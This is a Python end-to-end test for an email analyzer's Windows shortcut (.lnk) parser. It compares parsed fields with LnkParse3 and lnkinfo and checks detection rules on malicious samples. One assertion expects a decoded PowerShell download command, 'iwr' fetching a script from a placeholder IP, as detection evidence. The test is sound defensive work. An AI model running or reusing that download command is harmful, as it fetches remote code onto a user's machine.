#!/usr/bin/env python3
"""End-to-end check of the shortcut parser (analyzers/payloads/lnk.c) against two
independent answer keys, on every real .lnk in ../shared/corpora:

- lnkparse3/json/NAME.json: LnkParse3's output for lnkparse3/lnk/NAME.lnk;
- `lnkinfo FILE` (Debian liblnk-utils), for lnkparse3/lnk and misc_lnk/**
  (skipped, with a note, when lnkinfo is not installed).

Each file is sent as the base64 attachment of a small generated message and
`kensa analyze --format json` runs on it; the lnk_* metadata of that
attachment is compared field by field: target path (LinkInfo), relative
path, working directory, arguments, icon location, environment target,
machine id, droids, drive serial, volume label, creation time.  Then a few
rule checks: the malicious samples in the corpus and samples/malware_iso_lnk.eml.

Known, reasoned differences are listed in KNOWN below; they print "ok" with
the reason.  Prints "ok NAME" / "FAIL NAME: WHY" per file and field and
"N passed, M failed".  Usage: KENSA=path/to/kensa python3 tests/e2e/test_lnk_corpus.py"""

import base64
import datetime
import glob
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

sys.dont_write_bytecode = True  # no __pycache__ in the tree
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
import kensa_e2e as k  # noqa: E402

LNKPARSE3 = os.path.join(k.CORPORA, "lnkparse3")
MISC = os.path.join(k.CORPORA, "misc_lnk")

# (file name, field, answer key) -> why kensa differs on purpose
KNOWN = {
    ("padded_cli_arguments.lnk", "*", "lnkinfo"):
        "lnkinfo 20181227 cannot open it (WORKING_DIR declares 1693 characters); kensa reads "
        "260 (MAX_PATH) as Windows does and gets the same arguments as LnkParse3",
    ("padded_cli_arguments.lnk", "working_dir", "lnkparse3"):
        "LnkParse3 reads the 260 characters too; kensa's metadata keeps the blanks, compared "
        "after trimming",
    ("sample6.lnk", "local_path", "lnkparse3"):
        "the ANSI path is GBK (Chinese); LnkParse3 decodes it as cp1252, kensa as CP932 when "
        "that converts cleanly, else cp1252: mojibake either way",
    ("sample6.lnk", "local_path", "lnkinfo"):
        "lnkinfo decodes the ANSI path with its own code page (same GBK mojibake)",
    ("decoding_error2.lnk", "machine_id", "lnkparse3"):
        "the NetBIOS name has bytes 0xAF 0xAA: cp1252 '¯ª' for LnkParse3 and lnkinfo, "
        "half-width katakana under CP932 for kensa (valid CP932, so preferred)",
    ("decoding_error2.lnk", "machine_id", "lnkinfo"):
        "the same 0xAF 0xAA bytes: lnkinfo uses cp1252",
    ("decoding_error3.lnk", "local_path", "lnkparse3"):
        "the ANSI user name is CP1251 Cyrillic; kensa tries CP932 first (it converts), "
        "LnkParse3 cp1252: both are mojibake of the same bytes",
    ("decoding_error3.lnk", "local_path", "lnkinfo"):
        "the same CP1251 bytes, decoded by lnkinfo as cp1252",
    ("invalid_date3.lnk", "local_path", "lnkinfo"):
        "ANSI CP1251 bytes; lnkinfo and kensa pick different code pages",
    ("unpaired_surrogate.lnk", "local_path", "lnkinfo"):
        "an unpaired surrogate: lnkinfo swallows the '.' after it, kensa shows U+FFFD and "
        "keeps the '.' (as LnkParse3 and Windows do)",
    ("unpaired_surrogate.lnk", "relative_path", "lnkinfo"):
        "the same unpaired surrogate as in the local path",
    ("decoding_error4.lnk", "local_path", "lnkparse3"):
        "the file name holds raw binary ('MZ...'); both replace the undecodable bytes "
        "differently",
    ("decoding_error4.lnk", "local_path", "lnkinfo"):
        "the file name holds raw binary ('MZ...'); lnkinfo prints the bytes, kensa U+FFFD",
}

UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufffd]")
ESCAPES = re.compile(r"\\x[0-9A-Fa-f]{2}|\\u[0-9A-Fa-f]{4}|<U\+[0-9A-Fa-f]+>|\\[rnt]|\ufffd")


def norm(v):
    """What survives sanitizing on both sides: no controls, no escapes."""
    if v is None:
        return None
    return UNSAFE.sub("", ESCAPES.sub("", v))


def wrap(path, out_dir):
    data = open(path, "rb").read()
    name = os.path.basename(path)
    b64 = base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")
    eml = ("From: sender@example.com\r\nTo: analyst@example.org\r\nSubject: lnk\r\n"
           "Date: Thu, 12 Dec 2024 06:21:30 +0000\r\nMIME-Version: 1.0\r\n"
           "Content-Type: multipart/mixed; boundary=\"KSLNK\"\r\n\r\n"
           "--KSLNK\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
           "--KSLNK\r\nContent-Type: application/octet-stream\r\n"
           "Content-Disposition: attachment; filename=\"%s\"\r\n"
           "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n--KSLNK--\r\n") % (name, b64)
    out = os.path.join(out_dir, "wrapped.eml")
    with open(out, "w", encoding="ascii") as f:
        f.write(eml)
    return out


def analyze(path, tmp):
    r = k.run(["analyze", wrap(path, tmp), "--format", "json"], timeout=30)
    if r.timed_out or r.rc not in (0, 1):
        return None, r.describe()
    report, why = k.parse_report(r.out)
    if report is None:
        return None, why
    for a in report.get("attachments", []):
        if a.get("filename") == os.path.basename(path):
            return report, a.get("metadata", {})
    return None, "no attachment named %s in the report" % os.path.basename(path)


def expected_lnkparse3(name):
    """The LnkParse3 answer as {field: value}; None when there is no json."""
    p = os.path.join(LNKPARSE3, "json", os.path.splitext(name)[0] + ".json")
    if not os.path.isfile(p):
        return None
    d = json.load(open(p, encoding="utf-8"))
    if not isinstance(d, dict):
        return None
    data = d.get("data") or {}
    extra = d.get("extra") or {}
    info = d.get("link_info") or {}
    loc = info.get("location_info") or {}
    track = extra.get("DISTRIBUTED_LINK_TRACKER_BLOCK") or {}
    env = extra.get("ENVIRONMENTAL_VARIABLES_LOCATION_BLOCK") or {}
    want = {
        "relative_path": data.get("relative_path"),
        "working_dir": data.get("working_directory"),
        "arguments": data.get("command_line_arguments"),
        "icon": data.get("icon_location"),
        "env_target": env.get("target_unicode") or env.get("target_ansi"),
        "machine_id": track.get("machine_identifier"),
        "droid_volume": track.get("droid_volume_identifier"),
        "droid_file": track.get("droid_file_identifier"),
        "drive_serial": loc.get("drive_serial_number"),
        "created": (d.get("header") or {}).get("creation_time"),
    }
    if info.get("local_base_path") is not None:
        base = info["local_base_path"]
        suffix = info.get("common_path_suffix") or ""
        want["local_path"] = base + ("\\" if suffix and not base.endswith("\\") else "") + suffix
    return {key: v for key, v in want.items() if v not in (None, "")}


LNKINFO_FIELDS = {
    "Local path": "local_path",
    "Relative path": "relative_path",
    "Working directory": "working_dir",
    "Command line arguments": "arguments",
    "Icon location": "icon",
    "Environment variables location": "env_target",
    "Machine identifier": "machine_id",
    "Droid volume identifier": "droid_volume",
    "Droid file identifier": "droid_file",
    "Drive serial number": "drive_serial",
    "Volume label": "volume_label",
    "Creation time": "created",
}


def lnkinfo_time(v):
    """"Aug 30, 2018 23:42:23.464048600 UTC" -> "2018-08-30T23:42:23+00:00"."""
    m = re.match(r"(\w{3} \d{2}, \d{4} \d{2}:\d{2}:\d{2})", v)
    if not m:
        return None
    t = datetime.datetime.strptime(m.group(1), "%b %d, %Y %H:%M:%S")
    return t.strftime("%Y-%m-%dT%H:%M:%S+00:00")


def expected_lnkinfo(path):
    """lnkinfo's answer as {field: value}; None when it could not read the
    file; False when lnkinfo is missing."""
    exe = shutil.which("lnkinfo")
    if not exe:
        return False
    try:
        p = subprocess.run([exe, path], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                           stdin=subprocess.DEVNULL, timeout=30)
    except subprocess.TimeoutExpired:
        return None
    if p.returncode != 0:
        return None
    want = {}
    section = None
    for line in p.stdout.decode("utf-8", "replace").splitlines():
        if line and not line.startswith("\t"):
            section = line.rstrip(":")
            continue
        m = re.match(r"^\t([A-Za-z ]+?)\s*:\s?(.*)$", line)
        if not m or section not in ("Link information", "Distributed link tracking data"):
            continue
        field = LNKINFO_FIELDS.get(m.group(1))
        if not field or field in want:
            continue
        value = m.group(2)
        if field == "created":
            value = lnkinfo_time(value)
            if value and value.startswith("1601-01-01"):
                value = None
        if value not in (None, ""):
            want[field] = value
    return want


def got_field(meta, field, source):
    if field == "icon":
        # lnkinfo shows the IconEnvironment block's path when there is one
        if source == "lnkinfo" and meta.get("lnk_icon_env"):
            return meta["lnk_icon_env"]
        v = meta.get("lnk_icon")
        return v.rsplit(",", 1)[0] if v else None
    return meta.get("lnk_" + field)


def same(field, got, want):
    if got is None:
        # lnkinfo prints a zero serial for a shortcut without a VolumeID
        return field == "drive_serial" and int(want, 16) == 0
    if field == "drive_serial":
        return int(got, 16) == int(want, 16)
    if field in ("droid_volume", "droid_file"):
        return got.lower() == want.lower()
    if field == "working_dir":
        return norm(got).rstrip() == norm(want).rstrip()
    return norm(got) == norm(want)


def compare(rep, name, meta, want, source):
    for field, value in sorted(want.items()):
        label = "%s %s (%s)" % (name, field, source)
        reason = KNOWN.get((name, field, source)) or KNOWN.get((name, "*", source))
        got = got_field(meta, field, source)
        if same(field, got, value):
            rep.ok(label)
        elif reason:
            rep.ok("%s: known difference: %s" % (label, reason))
        else:
            rep.fail(label, "kensa %r, %s %r" % (got, source, value))


def rule_ids(report):
    return {f["id"] for f in report.get("findings", [])}


def check_rules(rep, name, report, meta):
    """The malicious shortcuts of the corpus raise what they should."""
    ids = rule_ids(report)
    if name in ("padded_cli_arguments.lnk", "sample13.lnk", "invalid_date2.lnk",
                "unknown_block.lnk", "decoding_error2.lnk", "console_properties_block.lnk"):
        rep.check("%s raises lnk.command_execution" % name, "lnk.command_execution" in ids,
                  "findings: %s" % sorted(ids))
    if name == "padded_cli_arguments.lnk":
        ev = [f["evidence"] for f in report["findings"] if f["id"] == "lnk.command_execution"]
        rep.check("%s evidence keeps the tail of the command" % name,
                  any("notepad.exe" in e or "9SDTHRQOG1AH" in e for e in ev), str(ev)[:300])
    if name in ("sample.lnk", "microsoft_example.lnk", "sample11.lnk"):
        rep.check("%s raises no lnk.* finding" % name,
                  not any(i.startswith("lnk.") for i in ids), "findings: %s" % sorted(ids))


def check_sample(rep):
    path = os.path.join(k.SAMPLES, "malware_iso_lnk.eml")
    r = k.run(["analyze", path, "--format", "json"], timeout=30)
    report, why = k.parse_report(r.out)
    if report is None:
        rep.fail("malware_iso_lnk.eml", why)
        return
    enc = [f for f in report["findings"] if f["id"] == "lnk.encoded_powershell"]
    rep.check("malware_iso_lnk.eml raises lnk.encoded_powershell with the decoded script",
              any("iwr http://203.0.113.7/p.ps1" in f["evidence"] for f in enc), str(enc)[:300])
    rep.check("malware_iso_lnk.eml raises lnk.command_execution",
              "lnk.command_execution" in rule_ids(report), sorted(rule_ids(report)))
    iocs = {(i["kind"], i["value"]) for i in report.get("iocs", [])}
    rep.check("malware_iso_lnk.eml has the decoded script's URL as an IOC",
              ("url", "http://203.0.113.7/p.ps1") in iocs, sorted(iocs)[:20])


def main():
    rep = k.Reporter()
    if not k.binary_usable(rep):
        return rep.finish()
    files = sorted(glob.glob(os.path.join(LNKPARSE3, "lnk", "*.lnk")))
    files += sorted(glob.glob(os.path.join(MISC, "**", "*.lnk"), recursive=True))
    if not files:
        rep.fail("corpus", "no .lnk files under %s" % k.CORPORA)
        return rep.finish()
    lnkinfo_missing = False
    with tempfile.TemporaryDirectory(prefix="kensa-lnk-") as tmp:
        for path in files:
            name = os.path.basename(path)
            report, meta = analyze(path, tmp)
            if report is None:
                rep.fail(name, meta)
                continue
            rep.check("%s parsed (lnk_runs or lnk_target present)" % name,
                      "lnk_runs" in meta or "lnk_target" in meta, sorted(meta))
            want = expected_lnkparse3(name) if path.startswith(LNKPARSE3) else None
            if want:
                compare(rep, name, meta, want, "lnkparse3")
            info = expected_lnkinfo(path)
            if info is False:
                lnkinfo_missing = True
            elif info is None:
                reason = KNOWN.get((name, "*", "lnkinfo"))
                if reason:
                    rep.ok("%s (lnkinfo): known difference: %s" % (name, reason))
                else:
                    rep.note("%s: lnkinfo cannot read it; compared with LnkParse3 only" % name)
            else:
                compare(rep, name, meta, info, "lnkinfo")
            check_rules(rep, name, report, meta)
    if lnkinfo_missing:
        rep.note("lnkinfo (liblnk-utils) is not installed: compared with LnkParse3 only")
    check_sample(rep)
    return rep.finish()


if __name__ == "__main__":
    sys.exit(main())
